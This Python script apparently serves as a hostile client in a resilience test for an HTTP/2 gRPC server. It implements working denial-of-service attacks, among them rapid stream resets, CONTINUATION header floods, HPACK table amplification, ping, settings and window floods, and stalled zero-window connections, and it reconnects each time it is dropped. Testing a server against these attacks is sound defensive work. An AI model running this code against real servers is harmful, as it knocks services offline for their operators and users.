"""One hostile client, which needs no token: it sends bytes of an attack, and comes again when it is thrown out.

Usage: attacker.py ATTACK HOST PORT SECONDS plain|tls. Prints how often it connected, and the bytes that it sent.
"""

import itertools
import json
import socket
import ssl
import sys
import threading
import time

from http2 import (
    ACKNOWLEDGMENT,
    CONTINUATION,
    DATA,
    END_HEADERS,
    HEADERS,
    PING,
    PREFACE,
    PRIORITY,
    RESET,
    SETTINGS,
    WINDOW_UPDATE,
    call,
    call_fields,
    frame,
    header,
    integer,
)

FROM = "127.0.0.2"  # another host than that of good clients
CONNECTIONS = 6
BYTES_A_SECOND = 1 << 20  # of each connection, at most, so that the attack costs the machine little by itself
PAUSE = 0.02  # before it comes again

HEALTH = b"/grpc.health.v1.Health/Check"
UNFINISHED = call_fields(HEALTH) + b"\0\1a" + integer(64 << 20)  # a value of 64 MiB follows
WINDOWS = frame(SETTINGS, 0, 0, b"\0\4\x7f\xff\xff\xff") + frame(SETTINGS, 0, 0, b"\0\4\0\0\0\0")


def repeat(bytes_, times=100):
    return itertools.repeat(bytes_ * times)


def resets():
    for first in itertools.count(1, 200):
        yield b"".join(call(n) + frame(RESET, 0, n, b"\0\0\0\x08") for n in range(first, first + 200, 2))


def calls(path, acknowledges):
    yield ACKNOWLEDGMENT if acknowledges else b""
    for first in itertools.count(1, 200):
        yield b"".join(call(n, path) + frame(DATA, 1, n, bytes(5)) for n in range(first, first + 200, 2))


ATTACKS = {
    "header block": lambda: itertools.chain(
        [frame(HEADERS, 0, 1, UNFINISHED)], repeat(frame(CONTINUATION, 0, 1, b"y" * 16384), 1)
    ),
    "header block in small frames": lambda: itertools.chain(
        [frame(HEADERS, 0, 1, UNFINISHED)], repeat(frame(CONTINUATION, 0, 1, b"y"), 1000)
    ),
    "header block, byte by byte": lambda: itertools.chain(
        [frame(HEADERS, 0, 1, call_fields(HEALTH) + b"\0\1a" + integer(30_000))],
        repeat(frame(CONTINUATION, 0, 1, b"y")),
    ),
    "empty frames of a header block": lambda: itertools.chain(
        [frame(HEADERS, 0, 1, call_fields(HEALTH))], repeat(frame(CONTINUATION, 0, 1))
    ),
    "fields from the table": lambda: (
        frame(HEADERS, END_HEADERS, n, call_fields(HEALTH) + header(b"k", b"v" * 4000, 64) + b"\xbe" * 12000)
        for n in itertools.count(1, 2)
    ),
    "rapid resets": resets,
    "calls, settings never acknowledged": lambda: calls(HEALTH, False),
    "calls to nowhere": lambda: calls(b"/nowhere", True),
    "pings": lambda: repeat(frame(PING, 0, 0, b"12345678")),
    "settings": lambda: itertools.chain([b"".join(call(n) for n in range(1, 200, 2))], repeat(WINDOWS)),
    "empty data": lambda: itertools.chain([call(1)], repeat(frame(DATA, 0, 1))),
    "window updates": lambda: repeat(frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\1")),
    "priorities": lambda: repeat(frame(PRIORITY, 0, 1, b"\0\0\0\0\1")),
    "zero windows": lambda: itertools.chain(
        [frame(SETTINGS, 0, 0, b"\0\4\0\0\0\0") + b"".join(call(n, HEALTH) for n in range(1, 400, 2))],
        (time.sleep(0.1) or frame(PING, 0, 0, b"12345678") for _ in itertools.count()),
    ),
    "silence": lambda: (time.sleep(0.1) or b"" for _ in itertools.count()),
}


TLS = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
TLS.check_hostname = False
TLS.verify_mode = ssl.CERT_NONE
TLS.set_alpn_protocols(["h2"])

# The server ends these before they cost anything. Without that they are slow, because they stop the server.
AS_FAST_AS_POSSIBLE = {"header block", "header block in small frames"}


class Attacker(threading.Thread):
    """One connection after the other."""

    def __init__(self, attack, address, end, tls):
        super().__init__()
        self.attack, self.address, self.end, self.tls = attack, address, end, tls
        self.connections = self.sent = 0

    def run(self):
        while time.monotonic() < self.end:
            try:
                self.attack_once()
            except OSError:
                time.sleep(PAUSE)

    def attack_once(self):
        with socket.create_connection(self.address, 5, source_address=(FROM, 0)) as plain:
            self.connections += 1
            connection = tls(plain) if self.tls else plain
            connection.settimeout(1)
            if self.attack != "silence":
                connection.sendall(PREFACE)
            threading.Thread(target=drop_answers, args=[plain if not self.tls else None], daemon=True).start()
            for bytes_ in ATTACKS[self.attack]():
                connection.sendall(bytes_)
                self.sent += len(bytes_)
                if self.attack not in AS_FAST_AS_POSSIBLE:
                    time.sleep(len(bytes_) / BYTES_A_SECOND)
                if time.monotonic() > self.end:
                    return


def drop_answers(connection):
    """A server that cannot write would stop reading."""
    try:
        while connection is not None and connection.recv(1 << 16):
            pass
    except OSError:
        pass


def tls(connection):
    return TLS.wrap_socket(connection)


def main():
    attack, host, port, seconds, kind = sys.argv[1:]
    end = time.monotonic() + float(seconds)
    attackers = [Attacker(attack, (host, int(port)), end, kind == "tls") for _ in range(CONNECTIONS)]
    for attacker in attackers:
        attacker.start()
    for attacker in attackers:
        attacker.join()
    print(json.dumps({"connections": sum(a.connections for a in attackers), "bytes": sum(a.sent for a in attackers)}))


if __name__ == "__main__":
    main()
